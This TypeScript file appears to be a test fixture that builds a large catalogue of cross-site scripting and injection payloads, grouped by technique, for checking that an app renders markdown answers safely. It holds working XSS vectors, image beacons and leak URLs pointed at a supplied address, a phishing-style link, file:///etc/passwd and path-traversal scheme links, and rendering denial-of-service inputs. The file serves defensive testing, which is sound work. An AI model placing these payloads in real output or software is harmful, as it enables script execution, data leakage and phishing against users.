/** Answers that want to run, load or hide something in the window that draws them, by what they use. They would report to `address`. */
export function dangerousMarkdown(address: string): ReadonlyMap<string, string> {
  const groups = {
    html: html(address),
    links: links(address),
    pictures: pictures(address),
    diagrams: diagrams(address),
    foreign: foreign(address),
    loading: loading(address),
  }
  const all = Object.entries({ ...groups, formulas, definitions, handlers, breakouts, schemes, odd })
  return new Map(
    all.map(([name, vectors]) => [name, [`These use ${name}.`, ...vectors, `No more ${name}.`].join('\n\n')]),
  )
}

const html = (address: string) => [
  '<script>alert("html-1")</script>',
  '<ScRiPt src="' + address + 'a.js"></sCrIpT>',
  '<img src=x onerror=alert("html-2")>',
  '<svg onload=alert("html-3")><animate onbegin=alert("html-4") attributeName=x dur=1s></svg>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  `<iframe src="${address}frame"></iframe>`,
  '<details open ontoggle=alert("html-5")>x</details>',
  '<a href="javascript:alert(\'html-6\')">click</a>',
  '<form action="javascript:alert(1)"><button>send</button></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert("html-7")>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert("html-8")>-->',
  '<base href="' + address + '">',
  '<meta http-equiv="refresh" content="0;url=' + address + '">',
  '<link rel=stylesheet href="' + address + 'a.css">',
  '<style>@import "' + address + 'b.css"; * { background: url(' + address + 'c) }</style>',
  '<input autofocus onfocus=alert("html-9")>',
  '<video><source onerror=alert("html-10")></video>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<x contenteditable onblur=alert(1)>lose focus</x>',
  '<template><script>alert(1)</script></template>',
]

const links = (address: string) => [
  '[a](javascript:alert("link-1"))',
  '[b](JaVaScRiPt:alert(1))',
  '[c](java\tscript:alert(1))',
  '[d](&#106;avascript:alert(1))',
  '[e](javascript&colon;alert(1))',
  '[f](vbscript:msgbox(1))',
  '[g](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[h](file:///etc/passwd)',
  '[i](hermes-app://window/../../etc/passwd)',
  '[j](hermes://open?folder=/)',
  '[k](\u0001javascript:alert(1))',
  '<javascript:alert(1)>',
  `[https://bank.example](${address}phish)`,
  '[m](smb://host/share)',
  '[n](<javascript:alert(1)> "title" )',
  '[o](x" onmouseover="alert\\(1\\))',
  'www.example.org/"onmouseover="alert(1)',
]

const pictures = (address: string) => [
  `![pixel](${address}pixel.png)`,
  `![](${address}secret?leak=1)`,
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+)',
  '![x"onerror="alert(1)](x)',
  `[![a](${address}b)](javascript:alert(1))`,
]

const diagrams = (address: string) => [
  '```mermaid\ngraph TD\n  A["<img src=x onerror=alert(\'mermaid-1\')>"] --> B\n  click A "javascript:alert(1)"\n```',
  `\`\`\`mermaid\n%%{init: {"securityLevel": "loose", "theme": "base", "themeCSS": "* { background: url(${address}d) }"}}%%\ngraph TD\n  A --> B\n  click B call alert()\n\`\`\``,
  '```mermaid\nsequenceDiagram\n  A->>B: <script>alert("mermaid-2")</script>\n```',
  '```html\n<script>alert("code-1")</script>\n```',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
]

const formulas = [
  '$$\\href{javascript:alert("math-1")}{x}$$',
  '$$\\url{javascript:alert(1)}$$',
  '$$\\includegraphics{http://127.0.0.1:9/x}$$',
  '$$\\htmlData{onclick=alert(1)}{x}$$',
  '$$\\def\\a{\\a\\a}\\a$$',
]

/** A definition makes the app read an answer as one piece. */
const definitions = ['[l]: javascript:alert(1)\n\n[l]', '[^1]\n\n[^1]: <img src=x onerror=alert(1)>', '[l][l] ![l][l]']

const odd = [
  '| a | b |\n| --- | --- |\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |',
  `${'> '.repeat(2_000)}deep`,
  '*a **a '.repeat(500),
  `${'['.repeat(1_000)}${']('.repeat(200)}`,
  '\u202Etxt.exe\u202C \u200B\u2066hidden\u2069 \u001B[31mred',
  '- [x] <input type=checkbox onclick=alert(1)>',
  '{{constructor.constructor("alert(1)")()}} ${alert(1)}',
]

/** Other languages inside HTML, whose rules for scripts and addresses differ. */
const foreign = (address: string) => [
  '<svg><script>alert("foreign-1")</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y="20">click</text></a></svg>',
  '<svg><a><animate attributeName=href values="javascript:alert(1)" /><text y="20">click</text></a></svg>',
  '<svg><set attributeName=onmouseover to=alert(1) /></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  `<svg><image href="${address}image.svg" /><use href="${address}use.svg#a" /></svg>`,
  '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0iYSIgb25sb2FkPSJhbGVydCgxKSIvPg==#a" /></svg>',
  '<svg><style><img src=x onerror=alert("foreign-2")></style></svg>',
  '<svg><title><![CDATA[</title><img src=x onerror=alert("foreign-3")>]]></svg>',
  '<math href="javascript:alert(1)">click</math>',
  '<math><maction actiontype="statusline#http://example.org" xlink:href="javascript:alert(1)">click</maction></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert("foreign-4")></annotation-xml></math>',
  `<?xml-stylesheet type="text/xsl" href="${address}style.xsl"?><x />`,
]

/** Everything that makes a browser ask for an address by itself. */
const loading = (address: string) => [
  `<img srcset="${address}a 1x, ${address}b 2x"><picture><source srcset="${address}c"></picture>`,
  `<video poster="${address}d" src="${address}e"><track default src="${address}f"></video><audio src="${address}g"></audio>`,
  `<body background="${address}h"><table background="${address}i"><td background="${address}j">`,
  `<a href="#" ping="${address}k">a</a><input type=image src="${address}l"><button formaction="${address}m">b</button>`,
  `<link rel=preload as=image href="${address}n"><link rel=dns-prefetch href="${address}o"><link rel=manifest href="${address}p">`,
  `<p style="background: url(${address}q); list-style: url('${address}r'); cursor: url(${address}s), auto">styled</p>`,
  `<p style="background: image-set('${address}t' 1x); content: url(${address}u)">styled too</p>`,
  `<style>@font-face { font-family: x; src: url(${address}v) } p { font-family: x } a[href^="x"] { background: url(${address}w) }</style>`,
  `<fencedframe src="${address}x"></fencedframe><portal src="${address}y"></portal><frameset><frame src="${address}z"></frameset>`,
  `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${address}0"]}]}</script>`,
]

const handlerNames =
  'abort afterprint animationend animationstart auxclick beforeinput beforetoggle canplay copy cut dblclick drag drop ended error focusin hashchange input invalid keydown load mouseenter message paste pointerenter popstate reset resize scroll scrollend search securitypolicyviolation slotchange submit toggle touchstart transitionend unhandledrejection unload wheel'

const handlers = [
  ...handlerNames.split(' ').map((name) => `<b on${name}=alert("${name}") tabindex=1>${name}</b>`),
  '<marquee onstart=alert("start") loop=1>moves</marquee>',
  '<div style="animation: x 1ms" onanimationstart=alert("animation")>moves too</div>',
  '<img/src=x/onerror=alert("slashes")>',
  '<img src=x onerror\u000c=\u000calert("form feeds")>',
  '<IMG SRC=x OnErRoR="alert`template`">',
  '<img src=x onerror="&#97;lert(1)">',
]

/** Elements whose content is read by other rules, left in the middle; and names that hide the page's own. */
const breakouts = [
  ...['xmp', 'plaintext', 'noembed', 'noframes', 'textarea', 'title', 'style', 'iframe', 'noscript', 'listing'].map(
    (name) => `<${name}><p title="</${name}><img src=x onerror=alert('${name}')>">`,
  ),
  '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(\'mutation\')>">',
  '<form id=a></form><form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  '<!-- a --!><img src=x onerror=alert("comment")> -->',
  '<![if true]><img src=x onerror=alert("condition")><![endif]>',
  '<a id=bridge></a><a id=bridge name=call href="x:clobbered"></a><form name=body><input name=parentNode></form>',
  '<div id="root"></div><div id="__proto__"></div>',
]

const schemes = [
  '[p](java&Tab;script:alert(1))',
  '[q](java&NewLine;script:alert(1))',
  '[r](&#x6A;&#x61;&#x76;&#x61;script:alert(1))',
  '[s](%6Aavascript:alert(1))',
  '[t](javascript\\:alert(1))',
  '[u](//example.org/a)',
  '[v](\\\\host\\share)',
  '[w](data:image/svg+xml,<svg/onload=alert(1)>)',
  ...'blob filesystem view-source intent ms-msdt search-ms chrome chrome-extension devtools about jar feed ws ftp ssh tel'
    .split(' ')
    .map((scheme) => `[${scheme}](${scheme}:alert(1)) <${scheme}:alert(1)>`),
  '<http://example.org/%22onmouseover=alert(1)>',
  '![x][evil]\n\n[evil]: <javascript:alert(1)> "title"',
  '[x]: <data:text/html,<script>alert(1)</script>>\n\n[x]',
]
